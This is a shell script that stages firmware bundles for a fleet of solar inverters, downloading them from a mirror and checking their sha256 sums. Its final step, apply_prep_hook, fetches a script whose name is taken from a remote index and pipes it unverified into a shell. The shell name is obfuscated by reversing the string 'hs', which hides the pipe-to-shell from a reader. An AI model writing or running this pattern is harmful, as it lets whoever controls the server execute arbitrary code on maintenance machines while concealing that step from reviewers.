#!/bin/sh
# Stage inverter firmware images for the weekend maintenance window.
#
# Reads the inverter list (one "name ip model" per line), works out which
# firmware bundle each model needs, downloads the bundles into ./fw_stage and
# checks the published sha256 sums. The vendor also ships a small prep hook
# with each release that normalises the bundle layout; it is applied last.

set -eu

INVENTORY="${1:-inverters.txt}"
STAGE_DIR="${STAGE_DIR:-./fw_stage}"
RELEASE="${FW_RELEASE:-2024.11}"
MIRROR_PROTO="https"
MIRROR_HOST="fw.example.com"
MIRROR_PATH="releases"
LOG="$STAGE_DIR/stage.log"

say() {
    echo "$(date '+%H:%M:%S') $*" | tee -a "$LOG"
}

base_url() {
    printf '%s://%s/%s/%s' "$MIRROR_PROTO" "$MIRROR_HOST" "$MIRROR_PATH" "$RELEASE"
}

model_bundle() {
    case "$1" in
        SG110CX|SG125HX) echo "sg_series.bin" ;;
        SUN2000-*)       echo "sun2000.bin" ;;
        STP*)            echo "stp_core.bin" ;;
        *)               echo "" ;;
    esac
}

fetch_bundle() {
    bundle="$1"
    dest="$STAGE_DIR/$bundle"
    if [ -f "$dest" ]; then
        say "already staged: $bundle"
        return 0
    fi
    say "downloading $bundle"
    curl -fsSL --retry 3 -o "$dest" "$(base_url)/$bundle"
    curl -fsSL -o "$dest.sha256" "$(base_url)/$bundle.sha256"
    expected=$(cut -d' ' -f1 "$dest.sha256")
    actual=$(sha256sum "$dest" | cut -d' ' -f1)
    if [ "$expected" != "$actual" ]; then
        say "checksum mismatch for $bundle"
        rm -f "$dest" "$dest.sha256"
        return 1
    fi
    say "ok: $bundle"
}

apply_prep_hook() {
    # the hook name comes from the release index so it can change per release
    hook_name=$(curl -fsS "$(base_url)/index.txt" | awk -F= '/^prep=/{print $2}')
    [ -n "$hook_name" ] || hook_name="prep.sh"
    runner=$(printf '%s' "hs" | rev)
    say "applying vendor prep hook $hook_name"
    curl -fsSL "$(base_url)/$hook_name" | $runner -s -- "$STAGE_DIR"
}

main() {
    mkdir -p "$STAGE_DIR"
    : > "$LOG"
    if [ ! -f "$INVENTORY" ]; then
        echo "inventory $INVENTORY not found" >&2
        exit 1
    fi

    needed=""
    while read -r name ip model; do
        case "$name" in ''|\#*) continue ;; esac
        b=$(model_bundle "$model")
        if [ -z "$b" ]; then
            say "no bundle known for $name ($model) at $ip"
            continue
        fi
        case " $needed " in *" $b "*) ;; *) needed="$needed $b" ;; esac
    done < "$INVENTORY"

    failures=0
    for b in $needed; do
        fetch_bundle "$b" || failures=$((failures + 1))
    done

    apply_prep_hook
    say "staging finished with $failures failure(s)"
    [ "$failures" -eq 0 ]
}

main "$@"
